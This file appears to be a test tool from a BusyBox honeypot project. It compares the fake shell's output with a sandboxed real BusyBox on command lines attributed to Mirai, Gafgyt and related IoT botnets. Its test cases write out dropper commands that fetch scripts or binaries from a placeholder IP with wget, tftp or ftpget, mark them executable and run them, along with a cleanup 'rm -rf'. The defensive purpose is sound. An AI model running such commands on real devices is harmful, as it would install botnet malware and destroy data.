#!/usr/bin/env python3
"""The fake BusyBox beside a real one, on the command lines bots type.

    python tools/busybox_compare.py [--busybox /bin/busybox] [--verbose]

Each line runs twice: through the fake shell (C{bbs.shell}, on an x86_64
device like the host, so ELF headers and C{uname -m} agree), and through a
real BusyBox ash in a sandbox: a throwaway root tree built from the fake's
own image (the same applet links, C{/etc}, mount points), mounted read-only
with tmpfs on C{/tmp}, C{/var}, C{/mnt} and C{/dev} as on a device, in new
network (loopback only: downloads fail, nothing leaves the machine), mount
and PID namespaces, with C{env -i} and a time-out.  The real shell is an
interactive login shell (C{-sh -i}), as a bot's telnet session gets.

Each line is classed:

  exact       the same bytes
  shape       the same once host-specific values are set aside: numbers
              (PIDs, sizes, times), dates, the build stamp in the banner, the
              network's error (the sandbox has no route; a device's server
              does not answer), or, for host data (C{/proc/cpuinfo},
              C{/proc/mounts}, C{uname -a}, the applet list), every line of
              both outputs having the line form the case names
  wrong       anything else
  missing     the fake lacks a command the real BusyBox has

Debian's C{busybox-static} is BusyBox 1.35.0, so the fake claims 1.35.0
(firmware built with it since 2022, OpenWrt 22.03's version among them) and
is compared with it exactly.  Exit status 0 when at least 90% are exact or
shape and none is missing; C{--json} prints the rows for a test to read.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

import attrs

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from twisted.internet.task import Clock  # noqa: E402

from bbs.shell import BusyBoxShell  # noqa: E402
from bbs.shell.fs import DIR, FILE, LINK  # noqa: E402

START = 1_795_777_200.0
PREAMBLE_END = "Enter 'help' for a list of built-in commands.\n\n"
TIMEOUT = 20.0
PROMPT = "\x01PROMPT\x01"  # the real shell's prompts, taken out of its output

# Line forms for host data, each a regex every line must match in full.
CPUINFO = r"[^\t:]*\t*: ?.*|"
MOUNTS = r"\S+ /\S* \S+ \S+ 0 0"
APPLET_LIST = r"\t[][\w.:, -]*|[A-Z].*|\s*(or: )?[\w -].*|"


@attrs.frozen
class Case:
    line: str
    source: str  # where bots type it
    lines: str | None = None  # a line form: host data compared by form


CASES: tuple[Case, ...] = (
    # Mirai's scanner and loader (bot/scanner.c, loader/src/connection.c)
    Case("enable", "Mirai scanner"),
    Case("system", "Mirai scanner"),
    Case("shell", "Mirai scanner"),
    Case("sh", "Mirai scanner"),
    Case("linuxshell", "Mirai descendants"),
    Case("/bin/busybox MIRAI", "Mirai scanner"),
    Case("/bin/busybox ECCHI", "Mirai loader"),
    Case("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", "Mirai loader",
         MOUNTS + r"|ECCHI: applet not found"),
    Case("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; "
         "/bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon", "Mirai loader"),
    Case("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; "
         "/bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon", "Mirai loader"),
    Case("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/' > /.nippon; /bin/busybox ECCHI",
         "Mirai loader"),
    Case("cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
         "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "Mirai loader"),
    Case("/bin/busybox cat /bin/echo | /bin/busybox head -c 4", "Mirai loader"),
    Case("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", "Mirai loader"),
    Case("cd /tmp; /bin/busybox wget http://198.51.100.1:80/bins/mirai.x86 -O - > dvrHelper; "
         "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "Mirai loader"),
    Case("cd /tmp; /bin/busybox tftp -g -l dvrHelper -r mirai.x86 198.51.100.1; "
         "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "Mirai loader"),
    Case("cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
         "/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.x86; /bin/busybox IHCCE",
         "Mirai loader"),
    Case("cd /tmp; /bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' >> upnp; "
         "/bin/busybox echo -ne '\\x00\\x00\\x00' >> upnp; /bin/busybox wc -c upnp",
         "Mirai echo loader"),
    # Satori, Masuta, Okiru and other descendants
    Case("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
         "Satori/Masuta"),
    Case("cd /tmp; echo -e 'a\\nb' > .s; while read i; do echo $i; done < .s", "Satori"),
    Case("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd", "Okiru"),
    Case("cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .t; cat .t", "echo loaders"),
    Case("cat /proc/self/exe > /dev/null; echo $?", "Hajime"),
    Case("cat /proc/self/cmdline", "Hajime"),
    Case("cat /proc/self/status | head -n 1", "recon"),
    Case("ls -l /proc/self/exe", "recon", r"lrwxrwxrwx +1 root +root +0 \w+ +\d+ [\d:]+ "
         r"/proc/self/exe -> /bin/busybox"),
    Case("for p in /proc/[0-9]*; do :; done; echo done", "Mirai killer"),
    # Gafgyt and its droppers
    Case("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
         "wget http://198.51.100.1/bins.sh; chmod 777 bins.sh; sh bins.sh", "Gafgyt"),
    Case("cd /tmp; tftp 198.51.100.1 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh",
         "Gafgyt"),
    Case("cd /tmp; tftp -r tftp2.sh -g 198.51.100.1; chmod 777 tftp2.sh; sh tftp2.sh", "Gafgyt"),
    Case("cd /tmp; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.1 ftp1.sh ftp1.sh; "
         "sh ftp1.sh", "Gafgyt"),
    Case("wget http://198.51.100.1/x.sh -O- | sh", "droppers"),
    Case("wget -q -O /dev/null http://198.51.100.1/; echo $?", "droppers"),
    Case("rm -rf /tmp/* /var/run/* ; echo cleaned", "Gafgyt"),
    Case("cat nope", "droppers"),
    Case("echo x > /proc/x", "droppers"),
    Case("chmod 777 /tmp/nope", "droppers"),
    Case("rm /tmp/nope", "droppers"),
    Case("cp /nope /tmp/", "droppers"),
    Case("cd /nope", "droppers"),
    Case("ls /nope", "droppers"),
    Case("ls -l /tmp", "droppers"),
    Case("cd /tmp; echo abc > f; ls -l f", "droppers"),
    Case("cd /tmp; mkdir d; touch d/a d/b; ls d; ls -l d", "droppers"),
    Case("mkdir /proc/x", "droppers"),
    Case("sleep 1; echo slept", "droppers"),
    # recon
    Case("cat /proc/cpuinfo", "recon", CPUINFO),
    Case("grep -c processor /proc/cpuinfo", "recon"),
    Case("cat /proc/mounts", "recon", MOUNTS),
    Case("uname -m", "recon"),
    Case("uname -s; uname -o", "recon"),
    Case("id; whoami", "recon"),
    Case("echo $0", "recon"),
    Case("echo $SHELL $HOME $USER", "recon"),
    Case("which wget tftp busybox sh", "recon"),
    Case("which nosuch; echo $?", "recon"),
    Case("type echo; type ls; type if; type nosuch", "recon"),
    Case("ulimit -n 999999; ulimit -n", "recon"),
    Case("set | grep PATH", "recon"),
    Case("busybox | head -n 1", "recon", r"BusyBox v1\.35\.0 \(.*\) multi-call binary\."),
    Case("/bin/busybox --help | head -n 5", "recon"),
    Case("help | head -n 3", "recon"),
    Case("/bin/busybox ps | head -n 1", "recon"),
    Case("sleep 1 | ps | grep -c '[s]leep 1'", "recon"),
    Case("netstat -an | head -n 2", "recon"),
    Case("top -bn1 | head -n 1", "recon", r"Mem: \d+K used, \d+K free, \d+K shrd, \d+K buff,"
                                           r" \d+K cached"),
    Case("echo $RANDOM | grep -c '^[0-9][0-9]*$'", "recon"),
    # the shell grammar bots use
    Case("x=$(echo hi); echo ${x:-none} ${y:-none} $((3*7)) `echo back`", "grammar"),
    Case("for i in 1 2 3; do echo $i; done", "grammar"),
    Case("if [ -d /tmp ]; then echo dir; else echo nodir; fi", "grammar"),
    Case("case $(uname -m) in x86_64) echo ok;; *) echo other;; esac", "grammar"),
    Case("test -f /bin/busybox && echo yes || echo no; [ -w /tmp ] && echo w", "grammar"),
    Case("cat <<EOF\nhello $HOME\nEOF", "grammar"),
    Case("read a b <<EOF\none two three\nEOF\necho $b", "grammar"),
    Case("printf '%s:%d:%x\\n' abc 42 255", "grammar"),
    Case("exec 2>&1; echo ok", "grammar"),
    Case("[ 1", "grammar"),
    Case("echo -e '\\x1b[31mred'", "chat-like"),
    # small applets droppers lean on
    Case("killall -9 nosuch; echo $?", "Gafgyt"),
    Case("cd /tmp; ln -s /bin/busybox x; /tmp/x echo via-link; ln /nope y", "droppers"),
    Case("basename /tmp/a.sh .sh; dirname /tmp/a.sh; seq 2 4", "droppers"),
    Case("echo hi | tee /tmp/t; cat /tmp/t", "droppers"),
    Case("readlink /bin/sh; readlink -f /bin/sh", "recon"),
    Case("echo -n abc | md5sum; md5sum /nope", "droppers"),
)


def fake_output(case: Case) -> str:
    clock = Clock()
    clock.advance(START)
    shell = BusyBoxShell(arch="x86_64", clock=clock, sensor="busybox_compare")
    shell.tty = False  # the sandboxed shell writes to a pipe: lay output out for one
    out = []
    for line in case.line.split("\n"):
        out.append(shell.run(line).output)
    return "".join(out)


def build_tree(root: Path, busybox: Path) -> None:
    """The fake's own image as real files, with the real BusyBox as its binary."""
    clock = Clock()
    clock.advance(START)
    shell = BusyBoxShell(arch="x86_64", clock=clock)
    for path, node in sorted(shell.fs.image.nodes.items()):
        if path.startswith(("/proc/", "/dev/")):
            continue
        where = root / path.lstrip("/")
        if node.kind == DIR:
            where.mkdir(parents=True, exist_ok=True)
        elif node.kind == LINK:
            where.symlink_to(node.target)
        elif node.kind == FILE:
            if node.program == "busybox":
                shutil.copy(busybox, where)
            elif node.program:
                continue  # curl is no part of BusyBox
            else:
                where.write_bytes(node.data)
            where.chmod(node.mode & 0o7777)
    (root / "root").chmod(0o700)


_SETUP = r"""
set -e
T="$1"
mount --make-rprivate /
mount --bind "$T" "$T"
mount -o remount,bind,ro "$T"
mount -t tmpfs -o mode=1777 tmpfs "$T/tmp"
mount -t tmpfs tmpfs "$T/var"
mkdir -p "$T/var/run" "$T/var/tmp" "$T/var/log"
mount -t tmpfs tmpfs "$T/mnt"
mount -t tmpfs tmpfs "$T/root"
mount -t tmpfs -o mode=755 tmpfs "$T/dev"
for d in null zero random urandom tty; do
    touch "$T/dev/$d"; mount --bind "/dev/$d" "$T/dev/$d"
done
mount -t proc proc "$T/proc"
ip link set lo up 2>/dev/null || true
exec chroot --groups=0 "$T" /bin/busybox sh -c 'cd /root; exec -a -sh /bin/sh -i'
"""


def real_output(case: Case, tree: Path) -> str:
    env = {"HOME": "/root", "PATH": "/bin:/sbin:/usr/bin:/usr/sbin", "TERM": "vt102",
           "SHELL": "/bin/sh", "USER": "root", "LOGNAME": "root", "PROMPT": PROMPT}
    unshare = shutil.which("unshare") or "/usr/bin/unshare"
    command = ["env", "-i", *(f"{k}={v}" for k, v in env.items()), unshare, "--net", "--mount",
               "--pid", "--fork", "/bin/sh", "-c", _SETUP, "setup", str(tree)]
    # /etc/profile sets the device's "# " prompt; the first line swaps it for a marker
    script = f'PS1="$PROMPT"; PS2="$PROMPT"\n{case.line}\n'
    run = subprocess.run(command, input=script.encode(), stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, timeout=TIMEOUT,
                         env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")})
    text = run.stdout.decode("utf-8", "surrogateescape")
    if PREAMBLE_END not in text:
        raise RuntimeError(f"the sandboxed BusyBox did not start: {text.strip()[:300]}")
    text = text.split(PREAMBLE_END, 1)[1]
    text = text.removeprefix("# ").replace(PROMPT, "")
    return text[:-1] if text.endswith("\n") else text


_NET = re.compile(r"(sendto: )?(Network is unreachable|Connection timed out|Connection refused|"
                  r"No route to host|timeout)")
_DATE = re.compile(r"[A-Z][a-z]{2} [ \d]\d ( \d{4}|\d\d:\d\d)")


def normalise(text: str) -> str:
    """C{text} with host-specific values set aside."""
    text = re.sub(r"BusyBox v1\.35\.0 \([^)]*\)", "BusyBox v1.35.0 (BUILD)", text)
    text = _NET.sub("NETERR", text)
    text = _DATE.sub("DATE", text)
    text = re.sub(r"\d+", "0", text)
    return re.sub(r"[ \t]+", " ", text)


def _missing(case: Case, fake: str, real: str) -> bool:
    for m in re.finditer(r"^(-sh: (\S+): not found|(\S+): applet not found)$", fake, re.M):
        if m.group(0) not in real:
            return True
    return False


def classify(case: Case, fake: str, real: str) -> str:
    if fake == real:
        return "exact"
    if _missing(case, fake, real):
        return "missing"
    if normalise(fake) == normalise(real):
        return "shape"
    if case.lines is not None:
        form = re.compile(case.lines)
        if all(form.fullmatch(line) for text in (fake, real) for line in text.splitlines()) \
                and bool(fake) == bool(real):
            return "shape"
    return "wrong"


def compare(busybox: Path) -> list[dict[str, str]]:
    rows = []
    with tempfile.TemporaryDirectory(prefix="bbcompare-") as tmp:
        tree = Path(tmp) / "root"
        build_tree(tree, busybox)
        for case in CASES:
            fake = fake_output(case)
            real = real_output(case, tree)
            rows.append({"line": case.line, "source": case.source, "class": classify(case, fake, real),
                         "fake": fake, "real": real})
    return rows


def summary(rows: list[dict[str, str]]) -> tuple[Counter[str], float]:
    counts = Counter(row["class"] for row in rows)
    good = (counts["exact"] + counts["shape"]) / len(rows) if rows else 0.0
    return counts, good


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--busybox", default="/bin/busybox", type=Path)
    parser.add_argument("--verbose", action="store_true", help="show both outputs of each line "
                        "that is not exact")
    parser.add_argument("--json", action="store_true", help="print the rows as JSON")
    args = parser.parse_args(argv)
    if not args.busybox.exists():
        print(f"{args.busybox} is missing: install Debian's busybox-static", file=sys.stderr)
        return 2
    rows = compare(args.busybox)
    counts, good = summary(rows)
    if args.json:
        print(json.dumps(rows))
    else:
        for row in rows:
            shown = row["line"].replace("\n", "\\n")
            print(f"{row['class']:<8} {row['source']:<18} {shown[:90]}")
            if args.verbose and row["class"] != "exact":
                print(f"    fake: {row['fake']!r}\n    real: {row['real']!r}")
        print(f"\n{len(rows)} lines: {counts['exact']} exact, {counts['shape']} same shape, "
              f"{counts['wrong']} wrong, {counts['missing']} missing applets; "
              f"{good:.0%} exact or same shape")
    return 0 if good >= 0.9 and counts["missing"] == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
